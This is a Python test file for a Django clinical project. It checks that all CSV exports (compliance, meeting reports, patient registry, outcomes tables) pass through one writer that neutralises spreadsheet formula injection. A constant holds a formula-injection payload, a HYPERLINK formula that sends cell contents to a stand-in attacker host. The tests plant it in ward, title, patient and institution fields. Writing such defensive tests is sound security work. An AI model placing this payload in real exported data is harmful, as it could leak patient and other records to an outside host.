"""Every CSV the project writes goes through one writer (consilium.lib.csv_cells) that keeps
spreadsheets from running a cell as a formula, whoever typed its text."""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from consilium.lib.csv_cells import safe_cell
from consilium.library.actions import compliance as compliance_actions
from consilium.outcomes.tables import TABLES
from tests.security.conftest import csrf_client

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
ROOT = Path(__file__).resolve().parents[2] / "consilium"


def _cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    def number(cell: str) -> bool:
        return re.fullmatch(r"-?\d+(\.\d+)?([eE][-+]?\d+)?", cell) is not None

    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]


def test_it_writes_csv_only_through_the_one_writer():
    users = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
        and path.name != "csv_cells.py"
    ]
    assert users == []


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ward 3", "Ward 3"),
        (-3, -3),
        (None, ""),
    ],
)
def test_it_neutralises_cells_that_start_a_formula(value, written):
    assert safe_cell(value) == written


def test_it_neutralises_a_ward_name_in_the_compliance_csv(world):
    items = list(world.checklist.items.all())
    compliance_actions.record_round(
        actor=world.personas["clinician"],
        checklist=world.checklist,
        institution=world.institutions["VNCH"],
        unit=HOSTILE,
        audited_on=datetime.date(2025, 1, 15),
        observations=[(items[0].pk, "compliant")],
    )
    url = reverse("library:compliance_csv", args=[world.checklist.pk]) + "?institution=VNCH"
    cells = _cells(csrf_client(world, "coordinator").get(url))
    assert "'" + HOSTILE in cells
    assert _formulas(cells) == []


def test_it_neutralises_an_event_title_in_the_meeting_report_csv(world):
    world.workshop.title = HOSTILE
    world.workshop.save(update_fields=["title"])
    url = reverse("meetings:report_download", args=[world.workshop.pk, "csv"])
    cells = _cells(csrf_client(world, "coordinator").get(url))
    assert "'" + HOSTILE in cells
    assert _formulas(cells) == []


def test_it_neutralises_patient_fields_in_the_registry_export(world):
    world.patient.region = HOSTILE
    world.patient.save(update_fields=["region"])
    client = csrf_client(world, "data_manager")
    for query in ({}, {"identifiers": "1"}):
        response = client.get(reverse("registry:export_csv", args=["VNCH"]), query)
        cells = _cells(response) if not response.streaming else _streamed(response)
        assert "'" + HOSTILE in cells
        assert _formulas(cells) == []


def _streamed(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("table", TABLES)
def test_it_neutralises_every_outcomes_table(world, table):
    vnch = world.institutions["VNCH"]
    vnch.name = HOSTILE
    vnch.save(update_fields=["name"])
    response = csrf_client(world, "clinician").get(reverse("outcomes:table_csv", args=[table]))
    if response.status_code == 404:  # no figures of that kind for the world's patients
        return
    assert _formulas(_cells(response)) == []
